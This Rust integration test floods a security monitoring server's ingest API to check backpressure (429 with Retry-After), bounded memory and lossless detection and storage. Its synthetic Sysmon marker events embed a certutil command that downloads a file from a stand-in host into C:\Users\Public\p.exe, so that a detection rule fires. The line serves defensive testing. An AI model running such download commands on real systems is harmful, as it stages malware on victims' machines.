//! Overload (issue 4): HTTP ingest is flooded beyond what detection keeps up with. The server
//! must push back (429 with `Retry-After`) instead of queueing without bound, keep its memory
//! bounded, and lose nothing it acknowledged: once detection has caught up, every source's
//! event count, the alerts and the lake's row count equal exactly what was acknowledged.
//!
//! The server runs with a backlog bound of a few journal units, so four clients sending bodies
//! of 200 events (~650 KB) outrun detection at once; a client told 429 waits the
//! `Retry-After` it was given and sends the same body again. Each body carries a few marker
//! events (certutil downloading a file, which `examples/rules` flags) with values unique to
//! the body and the place in it; with dedup off every marker is its own alert, so "no loss,
//! no duplicate" is checked marker by marker. Nothing here asserts on time.

#[path = "common/server.rs"]
mod server;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use server::{Served, create_token};

/// Client threads flooding ingest at once, each under its own source tag.
const CLIENTS: usize = 4;
/// Events per body, and which of them are markers (every `MARKER_EVERY`th).
const EVENTS_PER_BODY: usize = 200;
const MARKER_EVERY: usize = 50;
/// Filler that makes each event ~3.3 KB, like a Windows record rendered with its message text:
/// bytes are what a leak would show, and long strings cost the debug build little CPU.
const PADDING: usize = 3000;
/// The flood goes on until this much has been acknowledged (and a 429 was seen).
const MIN_ACKED_BYTES: u64 = 128 << 20;
/// Bodies sent without a single 429 before the test gives up: the server is not pushing back.
const MAX_BODIES_WITHOUT_429: u64 = 2_000;
/// The server's peak resident memory must stay under this. Measured on a debug build: see
/// the comment where it is asserted.
const MAX_PEAK_RSS_BYTES: u64 = 160 << 20;

/// The example rule the markers fire.
const CERTUTIL_RULE: &str = "0b6f6a1e-6a43-4c1c-9a55-3d1f0e7c2a02";

const CONFIG: &str = "\
[monitor]
# Every hit its own alert, so alerts can be counted marker by marker.
dedup_window_secs = 0
# A backlog of a few bodies is all detection may have before ingest answers 429.
max_lag_units = 4
batch_units = 2

[monitor.lake]
enabled = true
flush_secs = 1
flush_rows = 500
";

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// The marker text of event `k` of body `b` of client `c`.
fn marker(c: usize, b: u64, k: usize) -> String {
    format!("mk-{c}-{b}-{k}")
}

/// Body `b` of client `c`: Sysmon process-creation records as NDJSON, markers among them.
fn body(c: usize, b: u64) -> Vec<u8> {
    use std::fmt::Write;
    let pad = "x".repeat(PADDING);
    let mut out = String::with_capacity(EVENTS_PER_BODY * (PADDING + 400));
    for k in 0..EVENTS_PER_BODY {
        let (image, cmd) = if k % MARKER_EVERY == 0 {
            let m = marker(c, b, k);
            (
                "certutil.exe",
                format!(
                    r"certutil.exe -urlcache -split -f http://198.51.100.7/{m}.bin C:\\Users\\Public\\p.exe"
                ),
            )
        } else {
            (
                "notepad.exe",
                format!(r"notepad.exe C:\\Users\\u{c}\\notes-{b}-{k}.txt"),
            )
        };
        // Written by hand (JSON-escaped backslashes): building values with serde_json cost the
        // clients more CPU than the server spent, on a two-core machine.
        writeln!(
            out,
            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"flood-{c}","TimeCreated":"2026-12-02T05:00:00Z","ProcessId":"{pid}","Image":"C:\\Windows\\System32\\{image}","CommandLine":"{cmd}","User":"CORP\\u{c}","ParentImage":"C:\\Windows\\explorer.exe","Description":"{pad}"}}"#,
            pid = k + 1000,
        )
        .unwrap();
    }
    out.into_bytes()
}

/// What the flood did, shared by the clients.
#[derive(Default)]
struct Tally {
    /// Acknowledged bodies per client.
    acked: Mutex<BTreeMap<usize, BTreeSet<u64>>>,
    acked_bytes: AtomicU64,
    /// Every byte sent, refused bodies included.
    pushed_bytes: AtomicU64,
    bodies_sent: AtomicU64,
    too_many: AtomicU64,
    saw_429: AtomicBool,
    /// The server's peak RSS when a quarter of `MIN_ACKED_BYTES` had been acknowledged, and
    /// how much had been then: the start of the stretch where memory must stay flat.
    hwm_at_quarter: AtomicU64,
    acked_at_quarter: AtomicU64,
    /// Set when a client gives up (no 429 ever came).
    gave_up: AtomicBool,
}

/// One client: sends its bodies in order, each until it is acknowledged, honouring 429.
fn flood(url: &str, token: &str, pid: u32, c: usize, tally: &Tally) {
    let http = reqwest::blocking::Client::builder()
        .timeout(Duration::from_secs(120))
        .build()
        .unwrap();
    for b in 0u64.. {
        let saw = tally.saw_429.load(Ordering::Acquire);
        if saw && tally.acked_bytes.load(Ordering::Acquire) >= MIN_ACKED_BYTES {
            return;
        }
        if !saw && tally.bodies_sent.load(Ordering::Acquire) >= MAX_BODIES_WITHOUT_429 {
            tally.gave_up.store(true, Ordering::Release);
            return;
        }
        let body = body(c, b);
        let len = body.len() as u64;
        loop {
            tally.bodies_sent.fetch_add(1, Ordering::AcqRel);
            tally.pushed_bytes.fetch_add(len, Ordering::AcqRel);
            let resp = http
                .post(format!("{url}/api/v1/ingest?source=flood-{c}"))
                .bearer_auth(token)
                .body(body.clone())
                .send()
                .unwrap_or_else(|e| panic!("client {c} body {b}: {e}"));
            let status = resp.status().as_u16();
            if status == 429 {
                let retry = resp
                    .headers()
                    .get("retry-after")
                    .unwrap_or_else(|| panic!("client {c} body {b}: 429 without Retry-After"))
                    .to_str()
                    .unwrap()
                    .to_string();
                let secs: u64 = retry
                    .parse()
                    .unwrap_or_else(|_| panic!("Retry-After `{retry}` is not whole seconds"));
                assert!(secs <= 60, "Retry-After {secs}s is not `shortly`");
                tally.too_many.fetch_add(1, Ordering::AcqRel);
                tally.saw_429.store(true, Ordering::Release);
                std::thread::sleep(Duration::from_secs(secs));
                continue;
            }
            let receipt: Value = resp.json().unwrap_or(Value::Null);
            assert_eq!(status, 200, "client {c} body {b}: {receipt}");
            assert_eq!(
                receipt["events"].as_u64(),
                Some(EVENTS_PER_BODY as u64),
                "{receipt}"
            );
            assert!(
                tally.acked.lock().unwrap().entry(c).or_default().insert(b),
                "body {b} of client {c} acknowledged twice"
            );
            let before = tally.acked_bytes.fetch_add(len, Ordering::AcqRel);
            if before < MIN_ACKED_BYTES / 4 && before + len >= MIN_ACKED_BYTES / 4 {
                tally
                    .hwm_at_quarter
                    .store(proc_status_bytes(pid, "VmHWM"), Ordering::Release);
                tally
                    .acked_at_quarter
                    .store(before + len, Ordering::Release);
            }
            break;
        }
    }
}

/// `name value` from the Prometheus page.
fn metric(s: &Served, token: &str, name: &str) -> Option<u64> {
    let text = s
        .http
        .get(format!("{}/api/v1/metrics", s.url))
        .bearer_auth(token)
        .send()
        .unwrap()
        .text()
        .unwrap();
    text.lines()
        .find_map(|l| l.strip_prefix(name)?.strip_prefix(' '))
        .map(|v| v.trim().parse::<f64>().unwrap() as u64)
}

/// A field of `/proc/<pid>/status` in bytes (`VmHWM`, `VmRSS`).
fn proc_status_bytes(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let kib: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix(field)?.strip_prefix(':'))
        .unwrap_or_else(|| panic!("no {field} in /proc/{pid}/status"))
        .trim()
        .trim_end_matches("kB")
        .trim()
        .parse()
        .unwrap();
    kib * 1024
}

/// CPU seconds (user + system) the process has used, from `/proc/<pid>/stat` (USER_HZ = 100).
fn cpu_seconds(pid: u32) -> f64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    // Fields after the `(comm)`, which may hold spaces: state is field 3, utime 14, stime 15.
    let rest = &stat[stat.rfind(')').unwrap() + 2..];
    let fields: Vec<&str> = rest.split_whitespace().collect();
    let ticks: u64 = fields[11].parse::<u64>().unwrap() + fields[12].parse::<u64>().unwrap();
    ticks as f64 / 100.0
}

/// The marker inside an alert's evidence.
fn alert_marker(alert: &Value) -> String {
    alert["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["value"].as_str())
        .find_map(|v| {
            let start = v.find("mk-")?;
            let end = v[start..].find(".bin")? + start;
            Some(v[start..end].to_string())
        })
        .unwrap_or_else(|| panic!("no marker in the evidence of {alert}"))
}

#[test]
fn flooded_ingest_pushes_back_stays_bounded_and_loses_nothing_acknowledged() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let config = dir.path().join("vigil.toml");
    std::fs::write(&config, CONFIG).unwrap();
    let rules = repo().join("examples/rules");
    let s = Served::start(
        &data,
        &[
            "--config",
            config.to_str().unwrap(),
            "--rules",
            rules.to_str().unwrap(),
        ],
    );
    let pid = s.child.id();
    let rss_at_start = proc_status_bytes(pid, "VmRSS");
    let analyst = create_token(&data, "analyst");

    let tally = Arc::new(Tally::default());
    let clients: Vec<_> = (0..CLIENTS)
        .map(|c| {
            let (url, token, tally) = (s.url.clone(), analyst.clone(), Arc::clone(&tally));
            std::thread::spawn(move || flood(&url, &token, pid, c, &tally))
        })
        .collect();
    for c in clients {
        c.join().expect("a flooding client failed");
    }
    assert!(
        !tally.gave_up.load(Ordering::Acquire),
        "{} bodies ({} MiB) were all accepted: ingest never answered 429, so nothing bounds \
         the backlog",
        tally.bodies_sent.load(Ordering::Acquire),
        tally.pushed_bytes.load(Ordering::Acquire) >> 20
    );
    let acked = tally.acked.lock().unwrap().clone();
    let acked_bytes = tally.acked_bytes.load(Ordering::Acquire);
    let pushed_bytes = tally.pushed_bytes.load(Ordering::Acquire);
    let acked_events: u64 =
        acked.values().map(|b| b.len() as u64).sum::<u64>() * EVENTS_PER_BODY as u64;
    let expected_markers: BTreeSet<String> = acked
        .iter()
        .flat_map(|(c, bodies)| {
            bodies.iter().flat_map(move |b| {
                (0..EVENTS_PER_BODY)
                    .step_by(MARKER_EVERY)
                    .map(move |k| marker(*c, *b, k))
            })
        })
        .collect();

    // Detection catches up with everything acknowledged.
    let sources = s.wait_for("/api/v1/sources", &analyst, Duration::from_secs(600), |b| {
        b["pipeline"]["lag_units"] == 0
    });
    let hwm_after_flood = proc_status_bytes(pid, "VmHWM");
    let server_cpu = cpu_seconds(pid);
    for (c, bodies) in &acked {
        let tag = format!("http:flood-{c}");
        let src = sources["sources"]
            .as_array()
            .unwrap()
            .iter()
            .find(|x| x["source"] == tag.as_str())
            .unwrap_or_else(|| panic!("no source {tag}: {sources}"));
        assert_eq!(
            src["events"].as_u64(),
            Some(bodies.len() as u64 * EVENTS_PER_BODY as u64),
            "{tag}: events counted vs acknowledged"
        );
        assert_eq!(src["units"].as_u64(), Some(bodies.len() as u64), "{tag}");
        assert_eq!(src["decode_errors"], 0, "{tag}");
    }
    assert_eq!(sources["pipeline"]["events"].as_u64(), Some(acked_events));

    // Every acknowledged marker is exactly one alert.
    let mut alerted = BTreeSet::new();
    let mut cursor: Option<String> = None;
    loop {
        let mut q = format!("/api/v1/alerts?rule_id={CERTUTIL_RULE}&limit=1000");
        if let Some(c) = &cursor {
            q.push_str(&format!("&cursor={c}"));
        }
        let (status, page) = s.get(&q, &analyst);
        assert_eq!(status, 200, "{page}");
        for a in page["items"].as_array().unwrap() {
            assert_eq!(a["count"], 1, "one hit per alert with dedup off: {a}");
            let m = alert_marker(a);
            assert!(alerted.insert(m.clone()), "marker {m} alerted twice");
        }
        cursor = page["next_cursor"].as_str().map(str::to_string);
        if cursor.is_none() {
            break;
        }
    }
    let lost: Vec<_> = expected_markers.difference(&alerted).take(5).collect();
    let extra: Vec<_> = alerted.difference(&expected_markers).take(5).collect();
    assert!(
        lost.is_empty() && extra.is_empty(),
        "{} markers acknowledged, {} alerted; never alerted: {lost:?}; alerted but never \
         acknowledged: {extra:?}",
        expected_markers.len(),
        alerted.len()
    );

    // The lake holds each acknowledged event once, when it has flushed them.
    let deadline = std::time::Instant::now() + Duration::from_secs(300);
    while metric(&s, &analyst, "vigil_lake_rows_total").unwrap_or(0) < acked_events {
        assert!(
            std::time::Instant::now() < deadline,
            "the lake never flushed the {acked_events} acknowledged events (rows: {:?})",
            metric(&s, &analyst, "vigil_lake_rows_total")
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    let (status, rows) = s.send_json(
        "POST",
        "/api/v1/query",
        &analyst,
        &json!({"sql": "SELECT source, count(*) AS n FROM events GROUP BY source ORDER BY source"}),
    );
    assert_eq!(status, 200, "{rows}");
    let in_lake: BTreeMap<String, u64> = rows["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["source"].as_str().unwrap().to_string(),
                r["n"].as_u64().unwrap(),
            )
        })
        .collect();
    let want: BTreeMap<String, u64> = acked
        .iter()
        .map(|(c, b)| {
            (
                format!("http:flood-{c}"),
                b.len() as u64 * EVENTS_PER_BODY as u64,
            )
        })
        .collect();
    assert_eq!(in_lake, want, "lake rows per source vs acknowledged");
    let (status, total) = s.send_json(
        "POST",
        "/api/v1/query",
        &analyst,
        &json!({"sql": "SELECT count(*) AS n FROM events"}),
    );
    assert_eq!(status, 200, "{total}");
    assert_eq!(total["rows"][0]["n"].as_u64(), Some(acked_events));

    // Memory. The bound is on the peak while ingesting and detecting (the SQL above comes
    // after: a query may use up to its own 512 MiB pool by design, so it is reported, not
    // bounded here). Measured on a debug build (2 cores, examples/rules, this config): about
    // 47 MiB at start, 100-115 MiB peak with 128-193 MiB acknowledged; with the lake off it
    // stays near 65 MiB, so most of the working set is the lake writer's (Arrow/Parquet at
    // opt-level 0 in dev builds). 160 MiB leaves ~40% headroom and is still below the bytes
    // pushed, so an ingest path that kept what it acknowledged in memory could not pass.
    let hwm_end = proc_status_bytes(pid, "VmHWM");
    let hwm_quarter = tally.hwm_at_quarter.load(Ordering::Acquire);
    let acked_quarter = tally.acked_at_quarter.load(Ordering::Acquire);
    eprintln!(
        "overload: {} bodies sent ({} MiB), {} answered 429; {} acknowledged ({} MiB, \
         {acked_events} events, {} markers); server RSS at start {} MiB, peak {} MiB at {} MiB \
         acknowledged, {} MiB once detection caught up, {} MiB after the SQL queries; server \
         CPU {server_cpu:.1} s to catch up",
        tally.bodies_sent.load(Ordering::Acquire),
        pushed_bytes >> 20,
        tally.too_many.load(Ordering::Acquire),
        acked.values().map(BTreeSet::len).sum::<usize>(),
        acked_bytes >> 20,
        expected_markers.len(),
        rss_at_start >> 20,
        hwm_quarter >> 20,
        acked_quarter >> 20,
        hwm_after_flood >> 20,
        hwm_end >> 20,
    );
    assert!(
        MAX_PEAK_RSS_BYTES < pushed_bytes,
        "the bound must be below what was pushed for the check to mean anything"
    );
    assert!(
        hwm_after_flood < MAX_PEAK_RSS_BYTES,
        "server peak RSS {} MiB exceeds the bound {} MiB ({} MiB acknowledged)",
        hwm_after_flood >> 20,
        MAX_PEAK_RSS_BYTES >> 20,
        acked_bytes >> 20
    );
    // Flat, not just under a ceiling: over the last three quarters of the flood the peak
    // grows by less than a quarter of what was acknowledged meanwhile (a queue holding the
    // backlog in memory would grow by all of it; measured: about a tenth, see the report).
    let grown = hwm_after_flood.saturating_sub(hwm_quarter);
    let acked_since = acked_bytes - acked_quarter;
    assert!(
        grown < acked_since / 4,
        "server peak RSS grew {} MiB while {} MiB were acknowledged: memory follows the volume",
        grown >> 20,
        acked_since >> 20
    );
}
